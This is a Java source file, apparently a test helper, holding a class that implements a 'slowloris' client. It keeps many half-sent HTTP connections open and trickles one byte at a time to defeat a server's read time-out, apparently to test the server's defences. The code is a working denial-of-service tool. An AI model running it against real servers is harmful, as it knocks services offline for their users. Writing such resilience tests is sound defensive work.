package dev.counterservice.web;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.function.BooleanSupplier;

/**
 * The "slowloris" client: holds {@code target} connections to a server, each with half a
 * request line, and adds one more byte of it to each connection every {@code trickle}, so
 * that a server's read time-out never fires; opens a new one for any the server closes.
 * {@link #letGo()} stops both, leaving the connections silent. One platform thread and a
 * selector, as an attacker's cheap client would.
 */
final class HalfOpenConnections implements AutoCloseable {

    private static final byte[] HALF_REQUEST_LINE = "GET /ne".getBytes(StandardCharsets.US_ASCII);

    private final InetSocketAddress server;

    private final int target;

    private final Duration trickle;

    private final Selector selector;

    /** Open connections, the one written to longest ago first, with when that was. */
    private final Deque<Held> byLastWrite = new ArrayDeque<>();

    private final Thread thread;

    private volatile boolean holding = true;

    private volatile boolean closed;

    private volatile int open;

    private volatile long closedByServer;

    private volatile long failedConnects;

    private record Held(SocketChannel channel, long writtenAt) {
    }

    private HalfOpenConnections(String baseUrl, int target, Duration trickle) throws IOException {
        URI base = URI.create(baseUrl);
        this.server = new InetSocketAddress(base.getHost(), base.getPort());
        this.target = target;
        this.trickle = trickle;
        this.selector = Selector.open();
        this.thread = Thread.ofPlatform().name("half-open-connections").start(this::run);
    }

    /**
     * Starts opening connections in the background until {@code target} are open, and
     * holds them there.
     */
    static HalfOpenConnections start(String baseUrl, int target, Duration trickle) {
        try {
            return new HalfOpenConnections(baseUrl, target, trickle);
        }
        catch (IOException ex) {
            throw new UncheckedIOException(ex);
        }
    }

    /** Connections open right now. */
    int open() {
        return open;
    }

    /** Connections the server has closed so far. */
    long closedByServer() {
        return closedByServer;
    }

    /**
     * Connection attempts that failed or timed out, e.g. because the server stopped
     * accepting.
     */
    long failedConnects() {
        return failedConnects;
    }

    /**
     * From now on: no more bytes, no new connections; the open ones stay open until the
     * server closes them.
     */
    void letGo() {
        holding = false;
    }

    /**
     * Waits until {@code target} connections are open; false if {@code limit} passes
     * first.
     */
    boolean awaitAllOpen(Duration limit) throws InterruptedException {
        return await(() -> open >= target, limit);
    }

    /**
     * Waits until the server has closed every connection; false if {@code limit} passes
     * first.
     */
    boolean awaitAllClosed(Duration limit) throws InterruptedException {
        return await(() -> open == 0, limit);
    }

    private boolean await(BooleanSupplier condition, Duration limit) throws InterruptedException {
        long deadline = System.nanoTime() + limit.toNanos();
        while (!condition.getAsBoolean()) {
            if (System.nanoTime() > deadline || !thread.isAlive()) {
                return false;
            }
            Thread.sleep(100);
        }
        return true;
    }

    private void run() {
        ByteBuffer discard = ByteBuffer.allocate(1024);
        try {
            while (!closed) {
                while (holding && open < target && !closed) {
                    connect();
                }
                if (holding) {
                    trickle();
                }
                selector.select(100);
                for (SelectionKey key : selector.selectedKeys()) {
                    discard.clear();
                    if (read((SocketChannel) key.channel(), discard) < 0) {
                        key.cancel();
                        key.channel().close();
                        open--;
                        closedByServer++;
                    }
                }
                selector.selectedKeys().clear();
            }
        }
        catch (IOException ex) {
            throw new UncheckedIOException(ex);
        }
    }

    private void connect() throws IOException {
        SocketChannel channel = SocketChannel.open();
        try {
            // A server at its connection limit leaves new connections in the backlog,
            // then drops them: give up soon
            channel.socket().connect(server, 1_000);
            channel.write(ByteBuffer.wrap(HALF_REQUEST_LINE));
            channel.configureBlocking(false);
            channel.register(selector, SelectionKey.OP_READ);
            byLastWrite.addLast(new Held(channel, System.nanoTime()));
            open++;
        }
        catch (IOException ex) {
            channel.close();
            failedConnects++;
        }
    }

    /**
     * One more byte of the request line (the path grows: "GET /nexxx...") to every
     * connection whose turn it is.
     */
    private void trickle() {
        long due = System.nanoTime() - trickle.toNanos();
        while (!byLastWrite.isEmpty() && byLastWrite.peekFirst().writtenAt() < due) {
            SocketChannel channel = byLastWrite.removeFirst().channel();
            if (channel.isOpen()) {
                try {
                    channel.write(ByteBuffer.wrap(new byte[] { 'x' }));
                    byLastWrite.addLast(new Held(channel, System.nanoTime()));
                }
                catch (IOException ex) {
                    // closed by the server: the selector reports it
                }
            }
        }
    }

    /** Reads what the server sent; -1 once it has closed the connection, or reset it. */
    private static int read(SocketChannel channel, ByteBuffer buffer) {
        try {
            return channel.read(buffer);
        }
        catch (IOException ex) {
            return -1;
        }
    }

    @Override
    public void close() throws IOException, InterruptedException {
        closed = true;
        thread.join(Duration.ofSeconds(10));
        for (SelectionKey key : selector.keys()) {
            key.channel().close();
        }
        selector.close();
    }

}
